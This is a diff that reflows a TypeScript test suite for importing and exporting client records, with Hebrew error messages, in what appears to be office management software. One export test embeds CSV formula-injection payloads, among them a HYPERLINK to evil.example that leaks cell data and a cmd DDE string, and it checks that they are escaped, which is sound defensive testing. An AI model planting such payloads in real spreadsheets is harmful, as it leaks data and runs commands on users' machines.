@@ -24,7 +24,13 @@ const EXISTING_ID = validId('20304050');
 const CLIENT_HEADER = 'מספר זהות,שם פרטי,שם משפחה,תאריך לידה,מין,טלפון נייד,מצב משפחתי,מספר תיק במשרד';
 
 beforeEach(async () => {
-  ({ app, token } = await officeWithClient({ idNumber: EXISTING_ID, firstNameHe: 'נועה', lastNameHe: 'שפירא', birthDate: '1975-03-03', sex: 'female' }));
+  ({ app, token } = await officeWithClient({
+    idNumber: EXISTING_ID,
+    firstNameHe: 'נועה',
+    lastNameHe: 'שפירא',
+    birthDate: '1975-03-03',
+    sex: 'female',
+  }));
   ({ dir: folder, cleanup: removeFolder } = tempDir());
 });
 afterEach(() => {
@@ -42,8 +48,13 @@ function writeFile(name: string, bytes: string | Buffer): string {
 /** What the desk sends when the user picks this file (and, for a CSV, its -family / -incomes files beside it). */
 function picked(file: string) {
   const { dir, name, ext } = path.parse(file);
-  const files = [file, ...['family', 'incomes'].map((kind) => path.join(dir, `${name}-${kind}${ext}`)).filter((f) => fs.existsSync(f))];
-  return { importFiles: files.map((f) => ({ name: path.basename(f), contentBase64: fs.readFileSync(f).toString('base64') })) };
+  const files = [
+    file,
+    ...['family', 'incomes'].map((kind) => path.join(dir, `${name}-${kind}${ext}`)).filter((f) => fs.existsSync(f)),
+  ];
+  return {
+    importFiles: files.map((f) => ({ name: path.basename(f), contentBase64: fs.readFileSync(f).toString('base64') })),
+  };
 }
 
 function writeCsv(name: string, lines: string[]): string {
@@ -52,7 +63,9 @@ function writeCsv(name: string, lines: string[]): string {
 
 /** Windows-1255, as old Hebrew Excel exports: ASCII as is, the Hebrew letters at 0xE0–0xFA. */
 function windows1255(text: string): Buffer {
-  return Buffer.from([...text].map((c) => (c >= 'א' && c <= 'ת' ? 0xe0 + c.charCodeAt(0) - 'א'.charCodeAt(0) : c.charCodeAt(0))));
+  return Buffer.from(
+    [...text].map((c) => (c >= 'א' && c <= 'ת' ? 0xe0 + c.charCodeAt(0) - 'א'.charCodeAt(0) : c.charCodeAt(0))),
+  );
 }
 
 function count(table: string): number {
@@ -60,7 +73,11 @@ function count(table: string): number {
 }
 
 function auditActions(action: string) {
-  return app.store.db.select().from(auditLog).all().filter((row) => row.action === action);
+  return app.store.db
+    .select()
+    .from(auditLog)
+    .all()
+    .filter((row) => row.action === action);
 }
 
 /** The office as it was before the import: the one client, indexed, no family rows, no import logged. */
@@ -72,7 +89,8 @@ function expectNothingImported(): void {
 }
 
 /** The parts of a problem a user reads, for exact comparison. */
-const brief = (problems: ImportProblem[]) => problems.map(({ sheet, row, field, message }) => ({ sheet, row, field, message }));
+const brief = (problems: ImportProblem[]) =>
+  problems.map(({ sheet, row, field, message }) => ({ sheet, row, field, message }));
 
 describe('the import dry run', () => {
   it('names each bad row, its field and the Hebrew reason, and imports nothing', async () => {
@@ -87,7 +105,11 @@ describe('the import dry run', () => {
       `${validId('55555555')},עדי,ביטון,1990-05-06,נקבה,12345,,`,
       `${validId('66666666')},אבי,חדד,1990-05-06,X,,,A-1`,
     ]);
-    writeCsv('clients-family.csv', ['מספר זהות של המבוטח,קרבה,שם פרטי,תאריך לידה', `${validId('77777777')},ילד,יעל,01/01/2010`, `${EXISTING_ID},ילדה,תמר,01/01/2012`]);
+    writeCsv('clients-family.csv', [
+      'מספר זהות של המבוטח,קרבה,שם פרטי,תאריך לידה',
+      `${validId('77777777')},ילד,יעל,01/01/2010`,
+      `${EXISTING_ID},ילדה,תמר,01/01/2012`,
+    ]);
 
     const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
     expect(preview).toMatchObject({ rows: 8, valid: 1, problemCount: 8, duplicateCount: 1 });
@@ -97,50 +119,106 @@ describe('the import dry run', () => {
     ]);
     expect(brief(preview.problems)).toEqual([
       { sheet: 'clients', row: 3, field: 'idNumber', message: 'מספר הזהות אינו תקין — ספרת הביקורת אינה מתאימה' },
-      { sheet: 'clients', row: 4, field: 'birthDate', message: 'תאריך לידה: התאריך אינו תקין או שתבניתו אינה מוכרת — יש לכתוב למשל 31/12/1980' },
+      {
+        sheet: 'clients',
+        row: 4,
+        field: 'birthDate',
+        message: 'תאריך לידה: התאריך אינו תקין או שתבניתו אינה מוכרת — יש לכתוב למשל 31/12/1980',
+      },
       { sheet: 'clients', row: 5, field: 'firstNameHe', message: 'יש למלא את השדה שם פרטי' },
       { sheet: 'clients', row: 6, field: 'idNumber', message: 'מספר זהות מופיע כבר בשורה 2 בקובץ' },
-      { sheet: 'clients', row: 8, field: 'mobilePhone', message: 'מספר הטלפון הנייד אינו תקין — יש להקליד מספר נייד ישראלי, למשל 050-1234567' },
+      {
+        sheet: 'clients',
+        row: 8,
+        field: 'mobilePhone',
+        message: 'מספר הטלפון הנייד אינו תקין — יש להקליד מספר נייד ישראלי, למשל 050-1234567',
+      },
       { sheet: 'clients', row: 9, field: 'sex', message: 'מין: הערך "X" אינו מוכר — אפשר לכתוב: זכר, נקבה' },
       { sheet: 'clients', row: 9, field: 'fileNumber', message: 'מספר תיק במשרד מופיע כבר בשורה 2 בקובץ' },
-      { sheet: 'family', row: 2, field: 'clientIdNumber', message: 'אין בגיליון המבוטחים שורה תקינה עם מספר הזהות הזה' },
+      {
+        sheet: 'family',
+        row: 2,
+        field: 'clientIdNumber',
+        message: 'אין בגיליון המבוטחים שורה תקינה עם מספר הזהות הזה',
+      },
     ]);
     expect(preview.problems[0]!.fieldLabel).toBe('מספר זהות');
     expect(brief(preview.duplicatesInOffice)).toEqual([
-      { sheet: 'clients', row: 7, field: 'idNumber', message: 'מבוטח עם מספר הזהות הזה כבר רשום במשרד — השורה לא תיובא' },
+      {
+        sheet: 'clients',
+        row: 7,
+        field: 'idNumber',
+        message: 'מבוטח עם מספר הזהות הזה כבר רשום במשרד — השורה לא תיובא',
+      },
     ]);
 
     const refused = await app.call(token, 'clients.import', { ...picked(file), confirm: true });
     expect(refused).toEqual({
       ok: false,
-      error: { code: 'validation', field: 'importFiles', message: 'בקובץ יש שורות שגויות ולכן לא יובא דבר — יש לתקן אותן לפי תוצאות הבדיקה ולנסות שוב' },
+      error: {
+        code: 'validation',
+        field: 'importFiles',
+        message: 'בקובץ יש שורות שגויות ולכן לא יובא דבר — יש לתקן אותן לפי תוצאות הבדיקה ולנסות שוב',
+      },
     });
     expectNothingImported();
   });
 
   it('names a file number the office already uses, and imports nothing', async () => {
-    expectOk(await app.call(token, 'clients.create', { idNumber: validId('15151515'), firstNameHe: 'שרה', lastNameHe: 'לוי', birthDate: '1970-01-01', sex: 'female', fileNumber: 'T-7' }));
-    const file = writeCsv('file-numbers.csv', [CLIENT_HEADER, `${validId('16161616')},דן,לוי,01/02/1980,זכר,,,T-7`, `${validId('17171717')},רון,לוי,01/02/1980,זכר,,,T-8`]);
+    expectOk(
+      await app.call(token, 'clients.create', {
+        idNumber: validId('15151515'),
+        firstNameHe: 'שרה',
+        lastNameHe: 'לוי',
+        birthDate: '1970-01-01',
+        sex: 'female',
+        fileNumber: 'T-7',
+      }),
+    );
+    const file = writeCsv('file-numbers.csv', [
+      CLIENT_HEADER,
+      `${validId('16161616')},דן,לוי,01/02/1980,זכר,,,T-7`,
+      `${validId('17171717')},רון,לוי,01/02/1980,זכר,,,T-8`,
+    ]);
     const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
     expect(preview).toMatchObject({ rows: 2, valid: 1, problemCount: 1, duplicateCount: 0 });
-    expect(brief(preview.problems)).toEqual([{ sheet: 'clients', row: 2, field: 'fileNumber', message: 'מספר התיק הזה כבר משמש מבוטח אחר במשרד' }]);
+    expect(brief(preview.problems)).toEqual([
+      { sheet: 'clients', row: 2, field: 'fileNumber', message: 'מספר התיק הזה כבר משמש מבוטח אחר במשרד' },
+    ]);
     expect((await app.call(token, 'clients.import', { ...picked(file), confirm: true })).ok).toBe(false);
     expect(count('insured_person')).toBe(2);
   });
 
   it('reports unknown and missing columns on the header row instead of every row', async () => {
-    const file = writeCsv('columns.csv', ['מספר זהות,שם פרטי,שם משפחה,מין,הערות', `${validId('12121212')},דן,לוי,זכר,לקוח ותיק`]);
+    const file = writeCsv('columns.csv', [
+      'מספר זהות,שם פרטי,שם משפחה,מין,הערות',
+      `${validId('12121212')},דן,לוי,זכר,לקוח ותיק`,
+    ]);
     const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
     expect(brief(preview.problems)).toEqual([
-      { sheet: 'clients', row: 1, field: 'column', message: 'העמודה ה־5 (E) אינה מוכרת — יש לתקן את שם העמודה או למחוק אותה' },
+      {
+        sheet: 'clients',
+        row: 1,
+        field: 'column',
+        message: 'העמודה ה־5 (E) אינה מוכרת — יש לתקן את שם העמודה או למחוק אותה',
+      },
       { sheet: 'clients', row: 1, field: 'birthDate', message: 'חסרה העמודה תאריך לידה' },
     ]);
   });
 
   it('names the row where a quote was opened and never closed', async () => {
-    const file = writeCsv('quotes.csv', [CLIENT_HEADER, `${validId('13131313')},דן,לוי,01/01/1980,זכר,,,`, `${validId('14141414')},"רן,לוי,01/01/1980,זכר,,,`]);
+    const file = writeCsv('quotes.csv', [
+      CLIENT_HEADER,
+      `${validId('13131313')},דן,לוי,01/01/1980,זכר,,,`,
+      `${validId('14141414')},"רן,לוי,01/01/1980,זכר,,,`,
+    ]);
     const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
-    expect(brief(preview.problems)[0]).toEqual({ sheet: 'clients', row: 3, field: '', message: 'מירכאות שנפתחו בשורה זו לא נסגרו' });
+    expect(brief(preview.problems)[0]).toEqual({
+      sheet: 'clients',
+      row: 3,
+      field: '',
+      message: 'מירכאות שנפתחו בשורה זו לא נסגרו',
+    });
   });
 
   it('never echoes what an unknown column holds: a file of passwords shows no password', async () => {
@@ -148,17 +226,32 @@ describe('the import dry run', () => {
     const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
     const shown = JSON.stringify(preview);
     for (const secret of ['hunter2', 'correct-horse', 'second-secret', 'third']) expect(shown).not.toContain(secret);
-    expect(brief(preview.problems)[0]).toMatchObject({ row: 1, field: 'column', message: expect.stringContaining('(A)') });
+    expect(brief(preview.problems)[0]).toMatchObject({
+      row: 1,
+      field: 'column',
+      message: expect.stringContaining('(A)'),
+    });
   });
 
   it('reads only the files the user picked: no path is taken, only their bytes', async () => {
     const file = writeCsv('ok.csv', [CLIENT_HEADER]);
-    expect(await app.call(token, 'clients.importPreview', { importFile: file } as never)).toMatchObject({ ok: false, error: { code: 'validation', field: 'importFiles' } });
-    expect(await app.call(token, 'clients.importPreview', { importFiles: [] })).toMatchObject({ ok: false, error: { field: 'importFiles', message: 'יש למלא את השדה קובצי הייבוא' } });
+    expect(await app.call(token, 'clients.importPreview', { importFile: file } as never)).toMatchObject({
+      ok: false,
+      error: { code: 'validation', field: 'importFiles' },
+    });
+    expect(await app.call(token, 'clients.importPreview', { importFiles: [] })).toMatchObject({
+      ok: false,
+      error: { field: 'importFiles', message: 'יש למלא את השדה קובצי הייבוא' },
+    });
     const family = writeCsv('ok-family.csv', ['מספר זהות של המבוטח']);
-    expect(await app.call(token, 'clients.importPreview', picked(family))).toMatchObject({ ok: false, error: { field: 'importFiles', message: expect.stringContaining('יש לבחור את קובץ המבוטחים') } });
+    expect(await app.call(token, 'clients.importPreview', picked(family))).toMatchObject({
+      ok: false,
+      error: { field: 'importFiles', message: expect.stringContaining('יש לבחור את קובץ המבוטחים') },
+    });
     const stray = { name: 'other-family.csv', contentBase64: Buffer.from('x').toString('base64') };
-    expect(await app.call(token, 'clients.importPreview', { importFiles: [...picked(file).importFiles, stray] })).toMatchObject({
+    expect(
+      await app.call(token, 'clients.importPreview', { importFiles: [...picked(file).importFiles, stray] }),
+    ).toMatchObject({
       ok: false,
       error: { field: 'importFiles', message: expect.stringContaining('"other-family.csv" אינו שייך לייבוא') },
     });
@@ -166,11 +259,20 @@ describe('the import dry run', () => {
 
   it('needs a CSV or xlsx file and an explicit confirmation', async () => {
     const pdf = writeFile('clients.pdf', '%PDF-1.7');
-    expect(await app.call(token, 'clients.importPreview', picked(pdf))).toMatchObject({ ok: false, error: { message: 'אפשר לייבא קובץ CSV או קובץ Excel (xlsx) בלבד' } });
+    expect(await app.call(token, 'clients.importPreview', picked(pdf))).toMatchObject({
+      ok: false,
+      error: { message: 'אפשר לייבא קובץ CSV או קובץ Excel (xlsx) בלבד' },
+    });
     const fake = writeFile('clients.xlsx', 'not a zip');
-    expect(await app.call(token, 'clients.importPreview', picked(fake))).toMatchObject({ ok: false, error: { field: 'importFiles' } });
+    expect(await app.call(token, 'clients.importPreview', picked(fake))).toMatchObject({
+      ok: false,
+      error: { field: 'importFiles' },
+    });
     const csv = writeCsv('ok.csv', [CLIENT_HEADER]);
-    expect(await app.call(token, 'clients.import', picked(csv) as never)).toMatchObject({ ok: false, error: { field: 'confirm', message: 'יש לאשר את הייבוא' } });
+    expect(await app.call(token, 'clients.import', picked(csv) as never)).toMatchObject({
+      ok: false,
+      error: { field: 'confirm', message: 'יש לאשר את הייבוא' },
+    });
   });
 });
 
@@ -189,10 +291,21 @@ describe('the import', () => {
       `${noLeadingZero},בת,שירה,15/09/2008,,כן`,
       `${EXISTING_ID},ילד,איתי,2010-01-01,,כן`,
     ]);
-    writeCsv('office-incomes.csv', ['מספר זהות של המבוטח,חודש,מקור ההכנסה,הכנסה', `${validId('30303030')},01/2024,שכיר,12000`, `${validId('30303030')},2024-02,עצמאי,3100.25`]);
+    writeCsv('office-incomes.csv', [
+      'מספר זהות של המבוטח,חודש,מקור ההכנסה,הכנסה',
+      `${validId('30303030')},01/2024,שכיר,12000`,
+      `${validId('30303030')},2024-02,עצמאי,3100.25`,
+    ]);
 
     const result = expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }));
-    expect(result).toEqual({ batchId: expect.any(Number), imported: 2, skipped: 1, family: 2, incomes: 2, remaining: 0 });
+    expect(result).toEqual({
+      batchId: expect.any(Number),
+      imported: 2,
+      skipped: 1,
+      family: 2,
+      incomes: 2,
+      remaining: 0,
+    });
 
     const found = expectOk(await app.call(token, 'clients.search', { query: 'אלמוג' }));
     expect(found.total).toBe(1);
@@ -208,14 +321,26 @@ describe('the import', () => {
       bankBranch: '034',
       preferredLanguage: 'he',
     });
-    expect(expectOk(await app.call(token, 'clients.search', { query: noLeadingZero.slice(-4) })).rows.map((c) => c.id)).toContain(miriam.id);
-    expect(expectOk(await app.call(token, 'family.list', { clientId: miriam.id })).map((m) => [m.relation, m.firstName, m.monthlyIncome, m.isDependant, m.birthDate])).toEqual([
+    expect(
+      expectOk(await app.call(token, 'clients.search', { query: noLeadingZero.slice(-4) })).rows.map((c) => c.id),
+    ).toContain(miriam.id);
+    expect(
+      expectOk(await app.call(token, 'family.list', { clientId: miriam.id })).map((m) => [
+        m.relation,
+        m.firstName,
+        m.monthlyIncome,
+        m.isDependant,
+        m.birthDate,
+      ]),
+    ).toEqual([
       ['child', 'שירה', null, true, '2008-09-15'],
       ['spouse', 'אהרון', '8500.50', false, '1960-01-01'],
     ]);
     const yosef = expectOk(await app.call(token, 'clients.search', { query: 'בן דוד' })).rows[0]!;
     expect(yosef).toMatchObject({ sex: 'male', maritalStatus: 'widowed', birthDate: '1958-11-30' });
-    expect(expectOk(await app.call(token, 'incomes.list', { clientId: yosef.id })).map((i) => [i.month, i.source, i.income])).toEqual([
+    expect(
+      expectOk(await app.call(token, 'incomes.list', { clientId: yosef.id })).map((i) => [i.month, i.source, i.income]),
+    ).toEqual([
       ['2024-02', 'self_employed', '3100.25'],
       ['2024-01', 'employee', '12000.00'],
     ]);
@@ -224,24 +349,48 @@ describe('the import', () => {
     expect(imported).toMatchObject({
       staffId: 1,
       entity: 'insured_person',
-      details: { file: 'office.csv', batchId: result.batchId, imported: 2, skipped: 1, family: 2, incomes: 2, clientIds: { from: miriam.id, to: yosef.id } },
+      details: {
+        file: 'office.csv',
+        batchId: result.batchId,
+        imported: 2,
+        skipped: 1,
+        family: 2,
+        incomes: 2,
+        clientIds: { from: miriam.id, to: yosef.id },
+      },
     });
     expect(expectOk(await app.call(token, 'audit.verify', {}))).toMatchObject({ ok: true });
   });
 
   it('reads a Windows-1255 CSV from an old Hebrew Excel', async () => {
-    const file = writeFile('legacy.csv', windows1255([CLIENT_HEADER, `${validId('40404040')},שלום,עליכם,01/01/1950,זכר,,רווק,`].join('\r\n')));
+    const file = writeFile(
+      'legacy.csv',
+      windows1255([CLIENT_HEADER, `${validId('40404040')},שלום,עליכם,01/01/1950,זכר,,רווק,`].join('\r\n')),
+    );
     const preview = expectOk(await app.call(token, 'clients.importPreview', picked(file)));
     expect(preview).toMatchObject({ rows: 1, valid: 1, problems: [] });
-    expect(expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({ imported: 1 });
-    expect(expectOk(await app.call(token, 'clients.search', { query: 'עליכם' })).rows[0]).toMatchObject({ firstNameHe: 'שלום', maritalStatus: 'single' });
+    expect(expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({
+      imported: 1,
+    });
+    expect(expectOk(await app.call(token, 'clients.search', { query: 'עליכם' })).rows[0]).toMatchObject({
+      firstNameHe: 'שלום',
+      maritalStatus: 'single',
+    });
   });
 
   it('imports an Excel workbook with date cells, numbers that lost their zeros and a family sheet', async () => {
     const workbook = new ExcelJS.Workbook();
     const clients = workbook.addWorksheet('Sheet1');
     clients.addRow(['מספר זהות', 'שם פרטי', 'שם משפחה', 'תאריך לידה', 'מין', 'טלפון נייד', 'תאריך עלייה']);
-    clients.addRow([Number(validId('05050505')), 'אולגה', 'פטרובה', new Date(Date.UTC(1971, 5, 15)), 'נקבה', 525550003, new Date(Date.UTC(1991, 0, 20))]);
+    clients.addRow([
+      Number(validId('05050505')),
+      'אולגה',
+      'פטרובה',
+      new Date(Date.UTC(1971, 5, 15)),
+      'נקבה',
+      525550003,
+      new Date(Date.UTC(1991, 0, 20)),
+    ]);
     const family = workbook.addWorksheet('בני משפחה');
     family.addRow(['מספר זהות של המבוטח', 'קרבה', 'שם פרטי', 'תאריך לידה', 'מין']);
     family.addRow([Number(validId('05050505')), 'בן', 'איגור', new Date(Date.UTC(1999, 11, 31)), 'זכר']);
@@ -258,11 +407,29 @@ describe('the import', () => {
       ['family', 'בני משפחה'],
       ['incomes', 'incomes'],
     ]);
-    expect(expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({ imported: 1, skipped: 0, family: 1, incomes: 1 });
+    expect(expectOk(await app.call(token, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({
+      imported: 1,
+      skipped: 0,
+      family: 1,
+      incomes: 1,
+    });
     const olga = expectOk(await app.call(token, 'clients.search', { query: 'פטרובה' })).rows[0]!;
-    expect(olga).toMatchObject({ idNumber: validId('05050505'), birthDate: '1971-06-15', aliyaDate: '1991-01-20', mobilePhone: '+972525550003' });
-    expect(expectOk(await app.call(token, 'family.list', { clientId: olga.id }))[0]).toMatchObject({ relation: 'child', firstName: 'איגור', birthDate: '1999-12-31', sex: 'male' });
-    expect(expectOk(await app.call(token, 'incomes.list', { clientId: olga.id }))[0]).toMatchObject({ month: '2024-03', income: '9876.50' });
+    expect(olga).toMatchObject({
+      idNumber: validId('05050505'),
+      birthDate: '1971-06-15',
+      aliyaDate: '1991-01-20',
+      mobilePhone: '+972525550003',
+    });
+    expect(expectOk(await app.call(token, 'family.list', { clientId: olga.id }))[0]).toMatchObject({
+      relation: 'child',
+      firstName: 'איגור',
+      birthDate: '1999-12-31',
+      sex: 'male',
+    });
+    expect(expectOk(await app.call(token, 'incomes.list', { clientId: olga.id }))[0]).toMatchObject({
+      month: '2024-03',
+      income: '9876.50',
+    });
   });
 
   it('leaves nothing behind when the store refuses a row half way through', async () => {
@@ -277,12 +444,19 @@ describe('the import', () => {
       `${validId('63636363')},ארבע,רביעי,01/01/1983,זכר,,,`,
     ]);
     writeCsv('batch-family.csv', ['מספר זהות של המבוטח,קרבה,שם פרטי', `${validId('60606060')},בן,קטן`]);
-    expect(expectOk(await app.call(token, 'clients.importPreview', picked(file)))).toMatchObject({ valid: 4, problemCount: 0 });
+    expect(expectOk(await app.call(token, 'clients.importPreview', picked(file)))).toMatchObject({
+      valid: 4,
+      problemCount: 0,
+    });
 
     const failed = await app.call(token, 'clients.import', { ...picked(file), confirm: true });
     expect(failed).toEqual({
       ok: false,
-      error: { code: 'conflict', field: 'importFiles', message: 'הייבוא נעצר בשורה 4 ולא יובא דבר — נתוני המשרד לא שונו. נסו שוב, ואם התקלה חוזרת פנו לתמיכה' },
+      error: {
+        code: 'conflict',
+        field: 'importFiles',
+        message: 'הייבוא נעצר בשורה 4 ולא יובא דבר — נתוני המשרד לא שונו. נסו שוב, ואם התקלה חוזרת פנו לתמיכה',
+      },
     });
     expectNothingImported();
     expect(expectOk(await app.call(token, 'clients.search', { query: 'ראשון' })).total).toBe(0);
@@ -311,14 +485,25 @@ describe('the export', () => {
 
   it('writes a CSV Hebrew Excel opens right, and logs it', async () => {
     await addClients();
-    const { file, count: rows } = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }));
+    const { file, count: rows } = expectOk(
+      await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }),
+    );
     expect(rows).toBe(2);
     expect(path.dirname(file)).toBe(folder);
     expect(path.basename(file)).toBe('mitzui-clients-2026-03-01-1000.csv');
     const bytes = fs.readFileSync(file);
     expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const lines = bytes.toString('utf8').slice(1).trimEnd().split('\r\n');
-    expect(lines[0]!.split(',').slice(0, 8)).toEqual(['מספר זהות', 'שם פרטי', 'שם משפחה', 'שם פרטי באותיות לועזיות', 'שם משפחה באותיות לועזיות', 'תאריך לידה', 'מין', 'מצב משפחתי']);
+    expect(lines[0]!.split(',').slice(0, 8)).toEqual([
+      'מספר זהות',
+      'שם פרטי',
+      'שם משפחה',
+      'שם פרטי באותיות לועזיות',
+      'שם משפחה באותיות לועזיות',
+      'תאריך לידה',
+      'מין',
+      'מצב משפחתי',
+    ]);
     expect(lines[1]).toContain(`${validId('00707070')},אורי,אברהם,Uri,,09/08/1966,זכר,גרוש/ה,`);
     expect(lines[1]).toContain(',052-5550004,');
     expect(lines[1]).toContain(`"'=HYPERLINK(""x"")"`);
@@ -326,22 +511,40 @@ describe('the export', () => {
     expect(fs.readdirSync(folder)).toEqual([path.basename(file)]);
 
     const [logged] = auditActions('export');
-    expect(logged).toMatchObject({ staffId: 1, entity: 'insured_person', details: { file, format: 'csv', count: 2, query: null } });
+    expect(logged).toMatchObject({
+      staffId: 1,
+      entity: 'insured_person',
+      details: { file, format: 'csv', count: 2, query: null },
+    });
 
-    const again = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv', query: 'אברהם' }));
+    const again = expectOk(
+      await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv', query: 'אברהם' }),
+    );
     expect(again).toEqual({ file: path.join(folder, 'mitzui-clients-2026-03-01-1000-2.csv'), count: 1 });
     expect(auditActions('export')[1]).toMatchObject({ details: { count: 1, query: 'אברהם' } });
   });
 
   it('escapes every cell a spreadsheet could run as a formula, a newline inside it or not', async () => {
-    const payloads = ['=HYPERLINK("http://evil.example/?"&A1)\n&""', '+1+cmd|\' /C calc\'!A0', '-2+3\r\n', '@SUM(A1:A9)'];
+    const payloads = ['=HYPERLINK("http://evil.example/?"&A1)\n&""', "+1+cmd|' /C calc'!A0", '-2+3\r\n', '@SUM(A1:A9)'];
     for (const [n, street] of payloads.entries()) {
-      expectOk(await app.call(token, 'clients.create', { idNumber: validId(`0080808${n}`), firstNameHe: 'טל', lastNameHe: 'כץ', birthDate: '1970-01-01', sex: 'female', street }));
+      expectOk(
+        await app.call(token, 'clients.create', {
+          idNumber: validId(`0080808${n}`),
+          firstNameHe: 'טל',
+          lastNameHe: 'כץ',
+          birthDate: '1970-01-01',
+          sex: 'female',
+          street,
+        }),
+      );
     }
     const { file } = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }));
     const rows = Papa.parse<string[]>(fs.readFileSync(file, 'utf8').slice(1), { skipEmptyLines: true }).data;
     const column = rows[0]!.indexOf('רחוב');
-    const streets = rows.slice(1).map((row) => row[column]!).filter((cell) => cell !== '');
+    const streets = rows
+      .slice(1)
+      .map((row) => row[column]!)
+      .filter((cell) => cell !== '');
     expect(streets).toHaveLength(payloads.length);
     for (const cell of streets) expect(cell.startsWith("'")).toBe(true);
   });
@@ -357,7 +560,9 @@ describe('the export', () => {
          SELECT 1, printf('%09d', 500000000 + i), 'דוד', printf('אלמוני %05d', i), '1970-01-01', 'male', '2026-03-01T08:00:00.000Z', '2026-03-01T08:00:00.000Z', 1, 1 FROM n`,
       )
       .run(many);
-    const { file, count: rows } = expectOk(await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }));
+    const { file, count: rows } = expectOk(
+      await app.call(token, 'clients.export', { targetFolder: folder, format: 'csv' }),
+    );
     expect(rows).toBe(many + 1);
     const lines = fs.readFileSync(file, 'utf8').trimEnd().split('\r\n');
     expect(lines).toHaveLength(many + 2);
@@ -414,24 +619,42 @@ describe('the export', () => {
       ok: false,
       error: { code: 'validation', field: 'targetFolder', message: 'יש לציין נתיב מלא לתיקיית היעד' },
     });
-    expect(await app.call(token, 'clients.export', { targetFolder: path.join(folder, 'missing'), format: 'xlsx' })).toEqual({
+    expect(
+      await app.call(token, 'clients.export', { targetFolder: path.join(folder, 'missing'), format: 'xlsx' }),
+    ).toEqual({
       ok: false,
       error: { code: 'validation', field: 'targetFolder', message: 'התיקייה שנבחרה לשמירת הקובץ אינה קיימת' },
     });
-    expect(await app.call(token, 'clients.export', { targetFolder: folder, format: 'pdf' as never })).toMatchObject({ ok: false, error: { field: 'format' } });
+    expect(await app.call(token, 'clients.export', { targetFolder: folder, format: 'pdf' as never })).toMatchObject({
+      ok: false,
+      error: { field: 'format' },
+    });
     expect(auditActions('export')).toEqual([]);
   });
 });
 
 describe('the template and the roles', () => {
   it('writes empty files with every sheet’s headers, which the import reads back', async () => {
-    const { files } = expectOk(await app.call(token, 'clients.importTemplate', { targetFolder: folder, format: 'csv' }));
-    expect(files.map((f) => path.basename(f))).toEqual(['mitzui-import.csv', 'mitzui-import-family.csv', 'mitzui-import-incomes.csv']);
+    const { files } = expectOk(
+      await app.call(token, 'clients.importTemplate', { targetFolder: folder, format: 'csv' }),
+    );
+    expect(files.map((f) => path.basename(f))).toEqual([
+      'mitzui-import.csv',
+      'mitzui-import-family.csv',
+      'mitzui-import-incomes.csv',
+    ]);
     expect(fs.readFileSync(files[2]!, 'utf8')).toBe('\uFEFFמספר זהות של המבוטח,חודש,מקור ההכנסה,הכנסה\r\n');
-    expect(expectOk(await app.call(token, 'clients.importPreview', picked(files[0]!)))).toMatchObject({ rows: 0, problems: [] });
+    expect(expectOk(await app.call(token, 'clients.importPreview', picked(files[0]!)))).toMatchObject({
+      rows: 0,
+      problems: [],
+    });
 
-    const { files: [workbook] } = expectOk(await app.call(token, 'clients.importTemplate', { targetFolder: folder, format: 'xlsx' }));
-    expect(expectOk(await app.call(token, 'clients.importPreview', picked(workbook!))).sources.map((s) => s.name)).toEqual(['מבוטחים', 'בני משפחה', 'הכנסות']);
+    const {
+      files: [workbook],
+    } = expectOk(await app.call(token, 'clients.importTemplate', { targetFolder: folder, format: 'xlsx' }));
+    expect(
+      expectOk(await app.call(token, 'clients.importPreview', picked(workbook!))).sources.map((s) => s.name),
+    ).toEqual(['מבוטחים', 'בני משפחה', 'הכנסות']);
   });
 
   it('lets owners and lawyers import and export, not staff', async () => {
@@ -445,7 +668,11 @@ describe('the template and the roles', () => {
     expect(count('insured_person')).toBe(1);
 
     const lawyer = await logInAs(app, 'lawyer');
-    expect(expectOk(await app.call(lawyer, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({ imported: 1 });
-    expect(expectOk(await app.call(lawyer, 'clients.export', { targetFolder: folder, format: 'xlsx' }))).toMatchObject({ count: 2 });
+    expect(expectOk(await app.call(lawyer, 'clients.import', { ...picked(file), confirm: true }))).toMatchObject({
+      imported: 1,
+    });
+    expect(expectOk(await app.call(lawyer, 'clients.export', { targetFolder: folder, format: 'xlsx' }))).toMatchObject({
+      count: 2,
+    });
   });
 });
